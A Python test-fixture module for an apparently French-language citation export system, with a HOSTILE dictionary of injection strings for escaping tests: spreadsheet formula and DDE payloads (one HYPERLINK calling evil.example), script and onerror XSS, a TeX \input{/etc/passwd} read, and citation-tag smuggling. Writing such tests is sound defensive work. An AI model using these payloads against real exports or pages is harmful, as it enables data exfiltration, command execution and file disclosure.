"""What the tests of the exports share: a small library, answers from it, and hostile words."""

from __future__ import annotations

from datetime import date

from domain import (
    Answer,
    AnswerSentence,
    AnswerStatus,
    Citation,
    Evidence,
    Release,
    Resolution,
    Standing,
    check_citation,
)

URL = "https://www.canada.ca/fr/nouvelles/2024/07/forum.html?a=1&b=(2)"
MADE = date(2026, 11, 25)

# Each of these breaks one format or another when it is not escaped.
HOSTILE = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1;"clic")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd",
    "tab": "\t=1+1",
    "wide": "＝1+1",
    "link": "](http://evil.example) [x](http://evil.example)",
    "image": "![x](http://evil.example/a.png)",
    "reference": "[x]: http://evil.example\n[x]",
    "autolink": "<http://evil.example> http://evil.example www.evil.example a@evil.example",
    "open": "{ ouvert",
    "close": "fermé } }",
    "braces": "{}{{}}",
    "entry": '"}\n}\n@misc{evil, title = {x}}\n@string{a = "b"}',
    "tex": "\\input{/etc/passwd} \\end{document} \\",
    "signs": "100 % de R&D à 5 $ #1 a_b ~ ^ x^2 $y$ `code` ~~rayé~~ *gras* __gras__",
    "script": "<script>alert(1)</script>",
    "event": "<img src=x onerror=alert(1)>",
    "style": "</style></title></textarea><style>*{display:none}</style>",
    "comment": "--> <!-- ]]> --!> &lt;b&gt; &#60;",
    "tags": "a\nTY  - BOOK\nUR  - http://evil.example\nER  - ",
    "carriage": "a\r\nUR  - http://evil.example\rER  - ",
    "separator": "a\u2028UR  - http://evil.example\u2029b\x85c",
    "override": "\u202egnp.exe \u2066\u2067",
    "controls": "nul\x00 esc\x1b[31m \x0b\x0c\x1c \ufffe \ud800",
    "heading": "# titre\n## titre",
    "underline": "titre\n===\n---",
    "items": "- un\n+ deux\n* trois\n1. un\n2) deux",
    "code": "    code\n\tcode",
    "fence": "```sh\nrm -rf\n```",
    "quote": "> cité\n>> cité",
    "table": "| a | b |\n|---|---|\n| 1 | 2 |",
    "paragraphs": "un\n\ndeux\n   \n   trois",
    "trailing": "a  \nb\\\nc",
    "marks": "« un » “deux” \"trois\" 'quatre'",
    "streamlit": ":red[rouge] :material/home: $x$",
    "spaces": "12\u202f000\u00a0$ États\u2011Unis",
    "long": "long " * 2_000,
}


class Shelf:
    """A library in memory: what was stored can be altered, as a damaged one could be."""

    def __init__(self, *releases: Release) -> None:
        self.releases = {(r.release_id, r.version): r for r in releases}
        self.standing = Standing.CURRENT

    def text(self, release_id: str, version: str) -> str:
        return self.releases[release_id, version].text

    def resolve(self, citation: Citation) -> Resolution:
        check_citation(citation, self)
        release = self.releases[citation.release_id, citation.version]
        return Resolution(citation, release, self.standing, release)


def release(text: str, **known) -> Release:
    """A release of the forum, with whatever else is known of it."""
    given = {
        "release_id": "forum-7eff",
        "version": "661a9a3ff42c5b39",
        "source": "corpus/forum.txt",
        "language": "fr",
        "sentences": (),
        "title": "Forum de 2024",
        "issuer": "Sécurité publique Canada",
        "city": "Ottawa",
        "date": date(2024, 7, 12),
        "url": URL,
    }
    return Release(text=text, **given | known)


def cite(of: Release, quote: str, marker: int = 1, section: str | None = None) -> Citation:
    """The citation of the words `quote` of a release."""
    start = of.text.index(quote)
    return Citation(
        marker=marker,
        release_id=of.release_id,
        version=of.version,
        source=of.source,
        start=start,
        end=start + len(quote),
        quote=quote,
        title=of.title,
        date=of.date,
        section=section,
        language=of.language,
    )


def answered(shelf: Shelf, question: str, *citations: Citation, prose: str | None = None) -> Answer:
    """An answer made of the citations, or of one sentence of prose that rests on all of them."""
    markers = tuple(c.marker for c in citations)
    extracts = tuple(AnswerSentence(c.quote, (c.marker,)) for c in citations)
    return Answer(
        question=question,
        language="fr",
        status=AnswerStatus.ANSWERED,
        texts=shelf,
        sentences=(AnswerSentence(prose, markers),) if prose else extracts,
        citations=citations,
    )


def declined(shelf: Shelf, question: str, reason: str, near: Citation) -> Answer:
    """A declined answer with the passage that comes nearest."""
    evidence = Evidence(
        near.release_id, near.version, near.source, near.start, near.end, near.quote, 0.1
    )
    return Answer(
        question=question,
        language="fr",
        status=AnswerStatus.DECLINED,
        texts=shelf,
        reason=reason,
        evidence=(evidence,),
    )


def hostile(words: str) -> tuple[Shelf, Answer]:
    """An answer in which everything foreign is `words`: question, title, issuer, place, quote."""
    of = release(f"Avant. {words} Après.", title=words, issuer=words, city=words, wire=words)
    shelf = Shelf(of)
    return shelf, answered(shelf, words, cite(of, words, section=words))
